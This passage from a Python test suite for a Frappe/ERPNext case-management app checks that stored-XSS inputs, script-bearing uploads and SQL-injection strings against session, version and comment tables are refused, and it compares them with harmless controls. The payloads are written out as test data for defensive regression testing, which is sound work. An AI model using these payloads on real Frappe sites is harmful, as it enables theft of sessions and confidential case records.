		"""Round 31: a Website Manager's footer label, a System Manager's portal menu target and a
		workspace link's label left their attribute and ran a script in the case team's pages; a web
		form's breadcrumbs closed its <script>; a supplier's name ran as SQL where the supplier
		portal pasted it, and read a dossier's comments."""
		handler = '" style="animation:spinner-border 1s" onanimationstart="import(\'/files/p.js\')'
		website = json.loads(frappe.as_json(frappe.get_doc("Website Settings").as_dict()))
		portal = json.loads(frappe.as_json(frappe.get_doc("Portal Settings").as_dict()))
		link = frappe.get_all(
			"Workspace Link", filters={"parent": "Website", "type": "Link"}, fields=["name", "label"], limit=1
		)[0]

		def as_website_manager(door, **params):
			frappe.db.rollback()
			return request_as(self.website_token, door, "post", **params)

		def footer(label):
			return {
				**website,
				"footer_items": [{"doctype": "Top Bar Item", "label": label, "url": "/contact"}],
			}

		def menu(target):
			item = {
				"doctype": "Portal Menu Item",
				"title": "Hulp",
				"enabled": 1,
				"route": "/contact",
				"target": target,
			}
			return {**portal, "custom_menu": [*portal["custom_menu"], item]}

		def label(text):
			return as_website_manager(
				"frappe.client.set_value",
				doctype="Workspace Link",
				name=link.name,
				fieldname="label",
				value=text,
			)

		todo = frappe.get_doc({"doctype": "ToDo", "description": "Meldcode labeltest"}).insert()
		role = frappe.get_doc(
			{"doctype": "Role", "role_name": "meldcode-rol-test", "desk_access": 1}
		).insert()
		frappe.db.commit()

		frappe.get_doc({"doctype": "Tag", "name": "\uff1cimg src=x onerror=alert(1)\uff1e"}).db_insert()
		frappe.db.commit()
		self.addCleanup(frappe.db.commit)
		self.addCleanup(frappe.db.delete, "Tag", {"name": ("like", "%img src=x%")})

		def tagged(tag):
			return self.call("frappe.desk.doctype.tag.tag.add_tag", tag=tag, dt="ToDo", dn=todo.name)

		def named(name):  # a record's name is pasted as often as its fields
			return self.call("frappe.client.insert", doc={"doctype": "Tag", "__newname": name})

		def renamed(name):
			return self.call("frappe.client.rename_doc", doctype="Role", old_name=role.name, new_name=name)

		page = {
			"doctype": "Web Page",
			"title": "Meldcode Nieuws",
			"published": 1,
			"content_type": "Page Builder",
			"page_blocks": [
				{
					"web_template": "Hero",
					# JSON's own escapes hide the markup until the values are read (round 33)
					"web_template_values": '{"title": "Nieuws\\u003cimg src=x onerror=alert(1)\\u003e"}',
				}
			],
		}

		def attached(filename):  # Frappe's attach_file, which a parent's account may call too
			return self.call(
				"frappe.client.attach_file",
				filename=filename,
				# content of its own: Frappe gives a file with the same content an existing file's address
				filedata=base64.b64encode(f"<script>fetch('/x')</script>{filename}".encode()).decode(),
				doctype="User",
				docname=SYSTEM_MANAGER,
				is_private=0,
				decode_base64=1,
			)

		def linked_file(url):
			return self.call(
				"frappe.client.insert",
				doc={"doctype": "File", "file_name": "logo.png", "file_url": url, "is_private": 0},
			)

		def saved_report(value):
			report = {
				"doctype": "Report",
				"report_name": f"meldcode-saved-{len(value)}",
				"report_type": "Report Builder",
				"ref_doctype": "ToDo",
				"is_standard": "No",
				"json": json.dumps({"filters": [["ToDo", "description", "=", value]]}),
			}
			return self.call("frappe.client.insert", doc=report)

		web_form = {
			"doctype": "Web Form",
			"title": "Meldcode Hulp",
			"route": "meldcode-hulp",
			"doc_type": "Note",
			"module": "Website",
			"is_standard": 0,
			"published": 1,
			"web_form_fields": [{"fieldname": "title", "fieldtype": "Data", "label": "Title"}],
			"breadcrumbs": json.dumps(
				[{"route": "/contact", "title": "</script><script>import('/files/p.js')</script>"}]
			),
		}
		try:
			for number, ((status, answer), expected) in enumerate(
				(
					(as_website_manager("frappe.client.save", doc=footer(f"Hulp{handler}")), 403),
					(
						as_website_manager(
							"frappe.client.save", doc=footer("Hulp\" a=< onanimationstart=import('/p.js')//")
						),
						403,
					),
					(as_website_manager("frappe.client.save", doc=menu(f"_self{handler}")), 403),
					(label(f"Gesprekken{handler}"), 403),
					(
						self.call(
							"frappe.client.insert",
							doc={"doctype": "Note", "title": "y' union select content from tabComment #"},
						),
						403,
					),
					(saved_report("x' union select data from tabVersion #"), 403),
					# round 34: an uploaded page, a file's address out of href, a redirect of the desk
					(attached("welkom.html"), 403),
					(attached("jaarplanning.xhtml"), 403),
					# round 35: a type the server's table gives the name, a markdown script link or image
					(attached("steal.xhtm"), 403),
					(attached("steal.xul"), 403),
					(
						as_website_manager(
							"frappe.client.insert",
							doc={
								**page,
								"route": "meldcode-md",
								"page_blocks": [
									{
										"web_template": "Markdown",
										"web_template_values": json.dumps(
											{"content": "[rooster](javascript:alert(1))"}
										),
									}
								],
							},
						),
						403,
					),
					(
						as_website_manager(
							"frappe.client.save",
							doc={
								**website,
								"route_redirects": [
									{
										"doctype": "Website Route Redirect",
										"source": "app",
										"target": "/files/welkom.html",
									}
								],
							},
						),
						403,
					),
					(as_website_manager("frappe.client.insert", doc={**page, "route": "login"}), 403),
					(
						as_website_manager("frappe.client.insert", doc={**page, "route": "update-password"}),
						403,
					),
					(tagged("y' union select content from tabComment #"), 403),
					# round 40: a full-width Tag of that name let Frappe write it into _user_tags raw
					(tagged("<img src=x onerror=alert(1)>"), 403),
					(named("z' union select content from tabComment #"), 403),
					(renamed("w' union select content from tabComment #"), 403),
					# a name pasted into `tab{name}` that ends it and joins another table
					(named("Comment` c join `tabVersion` v on (1=1) -- "), 403),
					(renamed("Comment`, `tabVersion"), 403),
					# The positive controls: the same doors with ordinary words.
					(as_website_manager("frappe.client.save", doc=footer("Hulp")), 200),
					(saved_report("Rooster van O'Brien"), 200),
					(attached("welkom.txt"), 200),
					(attached("rooster.pdf"), 200),
					(linked_file("https://example.org/x.png"), 200),
					(
						as_website_manager("frappe.client.insert", doc={**page, "route": "meldcode-nieuws"}),
						200,
					),
					(tagged("rooster"), 200),
					(named("meldcode-rooster"), 200),
					(renamed("meldcode-rol-test-2"), 200),
					(as_website_manager("frappe.client.save", doc=menu("_blank")), 200),
					(label(link.label), 200),
					(
						self.call(
							"frappe.client.insert",
							doc={"doctype": "Note", "title": "Don't select O'Brien's rooster from the list"},
						),
						200,
					),
				)
			):
				self.assertEqual(status, expected, f"{number}: {answer}")
				# refused for what it holds, not for want of a role
				self.assertNotEqual(str(answer), "frappe.exceptions.PermissionError", number)
			status, answer = as_website_manager("frappe.client.insert", doc=web_form)
			self.assertEqual(status, 200, answer)
			self.assertNotIn("<script", frappe.db.get_value("Web Form", answer["name"], "breadcrumbs"))
			values = frappe.db.get_value(
				"Web Page Block", {"parenttype": "Web Page"}, "web_template_values", order_by="creation desc"
			)
			self.assertIn("Nieuws", values)
			self.assertNotIn("onerror", json.loads(values)["title"], "cleaned once read")
			self.assertIn("/contact", frappe.db.get_value("Web Form", answer["name"], "breadcrumbs"))
		finally:
			frappe.db.rollback()
			for doctype, original, fields in (
				("Website Settings", website, ("footer_items",)),
				("Portal Settings", portal, ("custom_menu",)),
			):
				doc = frappe.get_doc(doctype)
				doc.update({key: original[key] for key in fields})
				doc.save()
			frappe.db.set_value("Workspace Link", link.name, "label", link.label)
			frappe.delete_doc_if_exists("Web Form", "meldcode-hulp")
			for name in frappe.get_all(
				"File", filters={"file_name": ("in", ("welkom.txt", "logo.png", "rooster.pdf"))}, pluck="name"
			):
				frappe.delete_doc("File", name, force=True, ignore_permissions=True)
			for name in frappe.get_all("Web Page", filters={"title": "Meldcode Nieuws"}, pluck="name"):
				frappe.delete_doc("Web Page", name, force=True)
			frappe.db.delete("Report", {"name": ("like", "meldcode-saved-%")})
			frappe.delete_doc("ToDo", todo.name, force=True)
			frappe.db.delete("Tag", {"name": ("in", ("rooster", "meldcode-rooster"))})
			frappe.db.delete("Role", {"name": ("like", "meldcode-rol-test%")})
			frappe.db.delete("Note", {"title": ("like", "%rooster from the list")})
			frappe.db.commit()

	def open_door(self, function) -> None:
		"""Whitelist one of this module's test doors while the test runs (Frappe whitelists a
		wrapper of the function, which the module's name must then resolve to)."""
		whitelisted = frappe.whitelist()(function)
		self.addCleanup(frappe.whitelisted.remove, whitelisted)
		self.addCleanup(frappe.allowed_http_methods_for_whitelisted_func.pop, whitelisted)
		replaced = patch(f"{__name__}.{function.__name__}", whitelisted)
		replaced.start()
		self.addCleanup(replaced.stop)

	def test_sql_sent_with_a_request_is_not_run_whatever_door_pastes_it(self):
		"""Round 23: an Accounts User's filter of an ERPNext report read a case's history and a
		director's session through a subquery no request names as a table of a case."""
		door = "meldcode_app.tests.test_sandboxed_code.notes_titled"
		self.open_door(notes_titled)
		status, answer = self.call(door, title="Rooster")
		self.assertEqual(status, 200, f"the positive control: the same door, a title: {answer}")
		for title, content in (
			("x' or (select count(*) from `tabSessions`) > 0 -- ", ""),
			("x' and extractvalue(1, concat(0x7e, (SELECT/**/data/**/FROM tabVersion limit 1))) -- ", ""),
			("x' union/*" + "x" * 400 + "*/select sid from tabSessions -- ", ""),
			# a pasted backslash ends the literal, and the parameter after it runs as SQL
			("\\", " or 1=0 union select sid from tabSessions #"),
			("\\", " or 1=1 #"),  # no query of its own: the statement's code changed all the same
			("%(content)s", " -1e0union all select 1e0from tabSessions #"),  # round 26: filled in
			("x' or 1 in (sel%(content).0sect 1 fr%(content).0som tabSessions) -- ", ""),  # round 27
		):
			status, answer = self.call(door, title=title, content=content)
			self.assertEqual(status, 403, f"{title} / {content}: {answer}")
			self.assertNotIn("XPATH", str(answer))

	def test_a_list_pasted_as_python_writes_it_is_not_run(self):
		"""Round 30: a JSON list as a filter that a report pasted between quotes: Python wrote it as
		['…', '…'], whose quotes ended the literal, and its items read a dossier's comments; a "#"
		in another filter hid the JSON text's union from the check."""
		door = "meldcode_app.tests.test_sandboxed_code.notes_between"
		self.open_door(notes_between)
		injected = {
			"a": "#",
			"from_title": [
				"and 1 union /*",
				"*/ select content /*",
				"*/ from tabComment where reference_doctype=0x4d656c64636f646520446f7373696572 or 1=",
			],
			"to_title": "z",
		}
		status, answer = self.call(door, filters=json.dumps(injected))
		self.assertEqual(status, 403, answer)
		status, answer = self.call(door, filters=json.dumps({"from_title": ["a", "b"], "to_title": "z"}))
		self.assertEqual(status, 403, f"any list pasted this way leaves its literal: {answer}")
		# Round 33: a DocType pasted into `tab{doctype}` ended the name and read the comments.
		self.open_door(notes_beside)
		beside = "meldcode_app.tests.test_sandboxed_code.notes_beside"
		status, answer = self.call(beside, doctype="Comment` so where so.content like 0x25 -- ")
		self.assertEqual(status, 403, answer)
		status, answer = self.call(beside, doctype="ToDo")
		self.assertEqual(status, 200, f"the positive control: the same door, a DocType: {answer}")
		status, answer = self.call(
			door, filters=json.dumps({"from_title": "Rooster", "to_title": "Vakantie"})
		)
		self.assertEqual(status, 200, f"the positive control: the same door, two titles: {answer}")
		# A list's search with percent signs, which Frappe pastes as a literal, is no placeholder.
		for text in ("%amsterdam%", "%Groningen%"):
			status, answer = self.call(
				"frappe.client.get_list", doctype="ToDo", filters=json.dumps([["description", "like", text]])
			)
			self.assertEqual(status, 200, f"{text}: {answer}")

	def test_a_failed_request_names_no_database_error_text(self):
		"""Round 25: an injected query read a case's history through MariaDB's error in the answer."""
		self.open_door(database_error)
		door = "meldcode_app.tests.test_sandboxed_code.database_error"
		status, answer = self.call(door, text="GEHEIM-B blauwe plek")
		self.assertEqual(status, 500)
		self.assertNotIn("GEHEIM", json.dumps(answer))
		status, answer = self.call(door, text="")
		self.assertIn("Geen tekst gegeven", json.dumps(answer), "the positive control: a message is told")

	def test_another_apps_search_finds_no_case_trace(self):
		"""Round 51: ERPNext's help search (open to guests) runs Frappe's global search itself: with
		the ToDos as its source it read a case's term ToDos from the search index."""
		from frappe.utils import global_search

		namespace = {
			"__name__": "other_app.templates.pages.search_help",
			"global_search": global_search,
			"frappe": frappe,
		}
		exec("def search(text):\n\treturn global_search.search(text, 0, 20, 'ToDo')", namespace)
		exec(
			"def contents(text):\n\treturn frappe.db.sql('select content from __global_search where content like %s', (f'%{text}%',))",
			namespace,
		)
		word = f"Hulpzoekwoord{frappe.generate_hash(length=6)}"
		dossier = open_dossier("A").name
		case_file = frappe.get_doc(
			{
				"doctype": "File",
				"file_name": "bijlage.txt",
				"content": "bijlage",
				"is_private": 1,
				"attached_to_doctype": "Meldcode Dossier",
				"attached_to_name": dossier,
			}
		).insert(ignore_permissions=True)
		self.addCleanup(frappe.delete_doc, "File", case_file.name, force=True, ignore_permissions=True)
		todos = [
			frappe.get_doc(
				{
					"doctype": "ToDo",
					"description": f"{word} {reference or 'eigen'}",
					"reference_type": reference,
					"reference_name": name,
				}
			)
			.insert(ignore_permissions=True)
			.name
			for reference, name in (("Meldcode Dossier", dossier), (None, None), ("File", case_file.name))
		]
		global_search.sync_global_search()
		frappe.db.commit()

		def indexed():
			return {row.name for row in global_search.search(word, 0, 20, "ToDo")} & set(todos)

		self.assertEqual(
			indexed(), {todos[1]}, "a case's ToDo (and one about its file) is kept out when saved"
		)
		global_search.rebuild_for_doctype("ToDo")  # as Frappe does when Global Search Settings change
		frappe.db.commit()
		self.assertEqual(indexed(), set(todos), "the rebuild put it back, until the hourly job")
		watch_database()
		try:
			frappe.local.meldcode_other_apps = frozenset(("other_app",))  # as if installed
			found = [row.name for row in namespace["search"](word)]
			self.assertEqual(found, [todos[1]], "the other ToDo is found: the control")
			frappe.local.meldcode_other_apps = None
			search_index.clean()
			frappe.db.commit()
			self.assertEqual(indexed(), {todos[1]}, "the hourly job")
			frappe.local.meldcode_other_apps = frozenset(("other_app",))
			with self.assertRaises(frappe.PermissionError):  # rows that do not say whose they are
				namespace["contents"](word)
			# A text that reads like a table read is no table read (Frappe puts values into its
			# statements: a role of that name broke every permission query for another app's code).
			exec(
				"def titles(text):\n\treturn frappe.db.sql('select name from tabToDo where description = ' + frappe.db.escape(text))",
				namespace,
			)
			self.assertEqual(namespace["titles"]("w' union select content from tabComment #"), ())
		finally:
			frappe.local.meldcode_other_apps = None
			frappe.db.delete("__global_search", {"name": ("in", todos)})
			frappe.db.delete("ToDo", {"name": ("in", todos)})
			frappe.db.commit()

	def test_another_apps_code_reads_no_case_table_session_or_queued_mail(self):
		"""What an injection no check saw would still reach: only Frappe's and the app's code read
		the case tables, the sessions, the passwords and the Email Queue."""
		namespace = {"__name__": "other_app.report.assets", "frappe": frappe}
		exec("def run(query, *values):\n\treturn frappe.db.sql(query, *values)", namespace)
		exec("def exists(doctype, filters):\n\treturn frappe.db.exists(doctype, filters)", namespace)
		for reference_doctype in ("Meldcode Dossier", "Note"):
			frappe.get_doc(
				{
					"doctype": "Comment",
					"comment_type": "Comment",
					"reference_doctype": reference_doctype,
					"reference_name": "meldcode-proef",
					"content": f"meldcode-proef {reference_doctype}",
				}
			).db_insert()
		watch_database()
		try:
			# Round 34: ERPNext's party details looked a Comment up by its text, one bit a request;
			# another app's reads of a trace leave the case records' rows out.
			found = namespace["run"](
				"select content from `tabComment` c where content like %s", ("meldcode-proef%",)
			)
			self.assertEqual([row[0] for row in found], ["meldcode-proef Note"], "the Note's: the control")
			self.assertFalse(
				namespace["exists"]("Comment", {"content": ["like", "meldcode-proef Meldcode%"]})
			)
			self.assertTrue(namespace["exists"]("Comment", {"content": ["like", "meldcode-proef Note%"]}))
			# Round 204: ERPNext's party details read a comment and a tag on a case's ToDo (a trace of a
			# trace); the control: those on another ToDo.
			for reference_type in ("Meldcode Dossier", None):
				todo = frappe.get_doc(
					{"doctype": "ToDo", "description": "meldcode-proef", "reference_type": reference_type}
				)
				todo.update({"reference_name": "meldcode-proef" if reference_type else None})
				todo.db_insert()
				for doctype, fields in (
					("Comment", {"reference_doctype": "ToDo", "reference_name": todo.name}),
					("Tag Link", {"document_type": "ToDo", "document_name": todo.name, "tag": "proef"}),
				):
					trace = frappe.get_doc({"doctype": doctype, "comment_type": "Comment", **fields})
					trace.update(
						{"content": f"op-taak {reference_type}", "title": f"op-taak {reference_type}"}
					)
					trace.db_insert()
			for doctype, field in (("Comment", "content"), ("Tag Link", "title")):
				self.assertFalse(
					namespace["exists"](doctype, {field: ["like", "op-taak Meldcode%"]}), doctype
				)
				self.assertTrue(
					namespace["exists"](doctype, {field: ["like", "op-taak None%"]}), "the control"
				)
			# Round 35: ERPNext had Frappe load a document by the request's DocType and filters.
			exec("def load(doctype, filters):\n\treturn frappe.get_doc(doctype, filters)", namespace)
			frappe.local.meldcode_other_apps = frozenset(("other_app",))  # as if installed
			self.assertEqual(
				namespace["load"]("Comment", {"content": ["like", "meldcode-proef N%"]}).reference_doctype,
				"Note",
			)
			with self.assertRaises(frappe.DoesNotExistError):
				namespace["load"]("Comment", {"content": ["like", "meldcode-proef M%"]})
			with self.assertRaises(frappe.PermissionError):
				namespace["load"]("Email Queue", {"message": ["like", "%key=%"]})
			with self.assertRaises(frappe.PermissionError):  # round 36: a bearer token is a session
				namespace["load"]("OAuth Bearer Token", {"access_token": ["like", "%"]})
			# Round 38: ERPNext had Frappe list a case DocType it made of a filter ("meldcode_dossier").
			exec("def listed(doctype):\n\treturn frappe.get_all(doctype, pluck='name')", namespace)
			with self.assertRaises(frappe.PermissionError):
				namespace["listed"]("Meldcode Dossier")
			self.assertIsInstance(namespace["listed"]("Note"), list, "the control")
			self.assertIsInstance(frappe.get_all("Meldcode Dossier", pluck="name"), list, "Frappe's own")
			# Nor from Frappe's document cache, where the case team's own reads put a dossier.
			exec("def cached(doctype, name):\n\treturn frappe.get_cached_doc(doctype, name)", namespace)
			dossier = open_dossier("A").name
			note = frappe.get_doc({"doctype": "Note", "title": "Meldcode cache-proef"}).insert().name
			for doctype, name in (("Meldcode Dossier", dossier), ("Note", note)):
				frappe.get_cached_doc(doctype, name)  # as Frappe's comment code does, into redis
				frappe.local.document_cache = {}  # a later request's
			self.assertEqual(namespace["cached"]("Note", note).name, note, "the control")
			with self.assertRaises(frappe.PermissionError):
				namespace["cached"]("Meldcode Dossier", dossier)
			frappe.clear_document_cache("Meldcode Dossier", dossier)
			# Round 36: an edited comment's version holds its text; a version of a trace is left out.
			for ref_doctype in ("Comment", "Note"):
				frappe.get_doc(
					{
						"doctype": "Version",
						"ref_doctype": ref_doctype,
						"docname": "meldcode-proef",
						"data": f'{{"changed": [["content", "a", "meldcode-versie {ref_doctype}"]]}}',
					}
				).db_insert()
			self.assertEqual(
				namespace["load"]("Version", {"data": ["like", "%meldcode-versie N%"]}).ref_doctype, "Note"
			)
			with self.assertRaises(frappe.DoesNotExistError):
				namespace["load"]("Version", {"data": ["like", "%meldcode-versie C%"]})
			self.assertEqual(
				frappe.get_doc("Comment", {"content": ["like", "meldcode-proef M%"]}).reference_doctype,
				"Meldcode Dossier",
				"Frappe's own",
			)
			self.assertEqual(
				len(frappe.get_all("Comment", filters={"reference_name": "meldcode-proef"})),
				2,
				"Frappe's own",
			)
			self.assertTrue(namespace["run"]("select 1 from `tabNote` limit 1") is not None, "control")
			self.assertTrue(namespace["run"]("select %s", ("tabSessions",)), "a table's name as a value")
			self.assertTrue(frappe.db.sql("select sid from `tabSessions` limit 1") is not None, "Frappe's")
			for table in ("`tabSessions`", "__Auth", "`tabEmail Queue`", "`tabMeldcode Dossier`"):
				with self.assertRaises(frappe.PermissionError, msg=table):
					namespace["run"](f"select * from {table} limit 1")
			# Round 32: a stored supplier name joined the dossiers' comments to the portal's statement.
			self.assertTrue(
				namespace["run"]("select count(*) from `tabToDo` where status = %s", ("Open",)),
				"ERPNext's digest",
			)
			self.assertTrue(
				namespace["run"]("select content from `tabComment` where reference_name = %s", ("x",))
				is not None,
				"a plain read: control",
			)
			self.assertTrue(
				namespace["run"](
					"select n.name from (select name from `tabNote`) n, `tabCommunication` c limit 1"
				)
				is not None,
				"ERPNext's CRM",
			)
			for statement in (
				"select name, 1 from `tabNote` where title = 'x' union select content, 1 from tabComment #'",
				"select name from `tabNote` where title = 'x' and exists(select 1 from tabVersion where data like '%G%')",
				"select name from `tabNote` where title = '' union select content from `tabCommunication`",
				# round 33: a pasted DocType joined the comments to the report's own table
				"select n.name from `tabNote` n, `tabComment` c join `tabToDo` t on (c.content like '%G%') limit 1",
				"select n.name from `tabNote` n, `tabVersion` so where so.data like '%G%' limit 1",
				"select n.name from `tabNote` n join `tabToDo` t on t.description like '%MD-%' limit 1",
			):
				with self.assertRaises(frappe.PermissionError, msg=statement):
					namespace["run"](statement)
		finally:
			del frappe.db.sql, frappe.db.meldcode_watched  # back to the connection's own
